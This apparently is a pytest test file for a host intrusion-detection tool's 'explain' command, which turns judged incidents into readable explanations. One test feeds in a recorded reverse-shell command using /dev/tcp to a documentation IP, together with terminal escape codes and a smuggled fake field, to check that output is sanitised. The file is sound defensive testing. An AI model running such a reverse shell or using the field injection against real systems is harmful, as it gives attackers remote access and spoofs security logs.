"""`wachhund explain`: an incident of a real judge over a real ledger, taken apart again."""

import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.unit.host.judge.recording import ssh_through_a_relay
from tests.unit.host.judge.stage import Stage, T
from tests.unit.host.judge.test_loop import ALLOWED
from wachhund.cli import main
from wachhund.explain.explaining import FIRST_FEW, mattered
from wachhund.explain.meanings import BEHAVIOURS
from wachhund.keeping.moments import shown
from wachhund.ledger.keeping_records import REQUEST, Act

OWN = """
title: "Lab (2): a program"
id: 5b2a8a54-6f4c-4b8e-9d5d-000000000007
description: why the lab looks for it
falsepositives: [the nightly job]
logsource: {product: linux, category: process_creation}
detection: {a: {Image: /bin/x}, condition: a}
"""
JUDGE = Path(__file__).resolve().parents[4] / "host" / "wachhund" / "judge"


@pytest.fixture
def stage(tmp_path: Path) -> Iterator[Stage]:
    """A ledger with one judged attack."""
    made = Stage(tmp_path / "host")
    made.send(ssh_through_a_relay())
    made.judged()
    yield made
    made.bench.close()


def explained(stage: Stage, capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
    (incident,) = stage.bench.ledger.incidents()
    assert main(["explain", incident["id"], *arguments, "--data", str(stage.bench.data.path)]) == 0
    return capsys.readouterr().out


def test_it_names_each_observation_in_order_with_its_place_in_the_evidence(
    stage: Stage, capsys: pytest.CaptureFixture[str]
) -> None:
    """Who doubts the incident goes from here to the signed token."""
    found = json.loads(explained(stage, capsys, "--json"))
    (incident,) = stage.bench.ledger.incidents()
    named = {(one["chain"], one["seq"], item) for one in incident["evidence"] for item in one["items"]}
    assert {(one["chain"], one["seq"], one["item"]) for one in found["seen"]} == named
    times = [one["t"] for one in found["seen"]]
    assert times == sorted(times)
    relay = next(one for one in found["seen"] if one["kind"] == "relay")
    assert relay["fields"]["exe"] == "/opt/x/agentd" and relay["fields"]["outer_remote"] == ["203.0.113.7", 443]
    token = stage.bench.ledger.token(stage.row.id, relay["chain"], relay["seq"])
    assert token is not None and token.observations[relay["item"]].observation.kind == "relay"


def test_it_says_in_words_which_rules_and_what_would_have_been_silent(
    stage: Stage, capsys: pytest.CaptureFixture[str]
) -> None:
    said = explained(stage, capsys)
    (incident,) = stage.bench.ledger.incidents()
    assert said.startswith(incident["title"])
    for rule in incident["rules"]:
        assert f"{rule}: {BEHAVIOURS[rule]}" in said
    assert "NOT ALLOWED" in said and "nothing was ever allowed" in said
    (session,) = incident["sessions"]
    command = f"wachhund authorise incident {incident['id']} --session {session['id']} --until 2h --why TEXT"
    assert command in said
    words = command.replace("TEXT", "because").split()[1:]
    assert main([*words, "--data", str(stage.bench.data.path)]) == 0


def test_it_says_of_each_authorisation_in_order_why_it_did_not_cover_it(
    stage: Stage, capsys: pytest.CaptureFixture[str]
) -> None:
    """ "I had allowed that" needs an answer."""
    from dataclasses import replace

    make = stage.bench.ledger.authorisations.make
    make(replace(ALLOWED, robots=("another",)))
    make(replace(ALLOWED, surfaces=("web",)))
    make(replace(ALLOWED, sources=("198.51.100.0/24",)))
    make(replace(ALLOWED, carrier=None))
    make(replace(ALLOWED, from_t=T + 100, made_t=T + 50))
    said = explained(stage, capsys)
    lines = [line.strip() for line in said.splitlines() if re.match(r"    a[0-9]", line)]
    session, way = lines[:4], lines[4:]
    assert [line.split()[0] for line in session] == ["a2", "a3", "a4", "a5"]
    assert "for web, not for ssh" in session[0]
    assert "from 198.51.100.0/24, not from 203.0.113.7" in session[1]
    assert "a relay or tunnel is covered only by its name" in session[2]
    assert "ended at" in session[3] and "made after the incident began" in session[3]
    assert [line.split()[0] for line in way] == ["a2", "a3", "a4", "a5"]
    assert "1 others do not: they are for other robots" in said


def test_what_was_erased_is_said_to_be(stage: Stage, capsys: pytest.CaptureFixture[str]) -> None:
    """A hole with a name, not an empty list."""
    keeping = stage.bench.ledger.keeping
    act = keeping.request(Act(REQUEST, stage.row.id, None, T + 1e6, "admin", "she asked", T), lambda *_: None)
    while keeping.erase_requested(act, T):
        pass
    said = explained(stage, capsys)
    assert "erased by admin: she asked" in said
    assert "about no session and no way in" in said


def test_an_incident_that_is_not_there_is_one_clear_line(stage: Stage, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["explain", "nothing", "--data", str(stage.bench.data.path)]) == 2
    assert capsys.readouterr().err.count("no such incident") == 1


def test_texts_of_a_robot_cannot_draw_on_the_terminal_or_make_up_fields(
    stage: Stage, capsys: pytest.CaptureFixture[str]
) -> None:
    """An argument may hold escape codes, line breaks and what looks like another field."""
    from tests.unit.host.judge.recording import Recording

    scene = Recording()
    evil = "\x1b[2J\r\nx user=nobody"
    scene.process(960, "/bin/bash", ["bash", "-c", f"bash -i >& /dev/tcp/198.51.100.9/4444 0>&1 {evil}"], user="pi")
    stage.send(scene)
    stage.judged()
    incident = next(one for one in stage.bench.ledger.incidents() if "Reverse shell" in one["title"])
    assert main(["explain", incident["id"], "--data", str(stage.bench.data.path)]) == 0
    said = capsys.readouterr().out
    assert "\x1b" not in said and "\r" not in said
    (line,) = [line for line in said.splitlines() if "process.start" in line]
    assert 'user="pi"' in line
    assert "no authorisation covers this" in said


def test_every_behaviour_that_makes_an_incident_has_its_words() -> None:
    """A new behaviour that nobody can explain is half a behaviour: name it in explain/meanings.py."""
    named: set[str] = set()
    for path in JUDGE.glob("*.py"):
        named |= set(re.findall(r"rules\[\"(behaviour: [^\"]+)\"\]", path.read_text(encoding="utf-8")))
    assert len(named) > 5
    assert named - BEHAVIOURS.keys() == set()


def test_of_a_kind_that_is_not_known_the_first_fields_are_shown() -> None:
    """New senses come; an explanation must not leave them out."""
    fields: dict[str, Any] = {f"f{number}": number for number in range(9)}
    assert list(mattered("weather.report", fields)) == list(fields)[:FIRST_FEW]
    assert shown(T) == "1970-01-12T13:46:40Z"


def test_an_incident_of_an_operators_own_rule_is_explained_by_that_rule(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """Whoever wrote it is who asks."""
    stage = Stage(tmp_path / "host")
    stage.bench.data.rules.mkdir()
    (stage.bench.data.rules / "own.yml").write_text(OWN)
    incident = {
        "id": "i1", "robot": stage.row.id, "kind": "rule", "title": "Lab (2): a program", "level": "low",
        "state": "open", "first_t": T, "last_t": T, "sessions": [], "surface": None, "origin": [], "tunnel": None,
        "rules": ["Lab (2): a program (5b2a8a54-6f4c-4b8e-9d5d-000000000007)"], "evidence": [],
    }  # fmt: skip
    stage.bench.ledger.save_judgement(0, [incident], [])
    said = explained(stage, capsys)
    stage.bench.close()
    assert "why the lab looks for it" in said
    assert "known to be harmless: the nightly job" in said
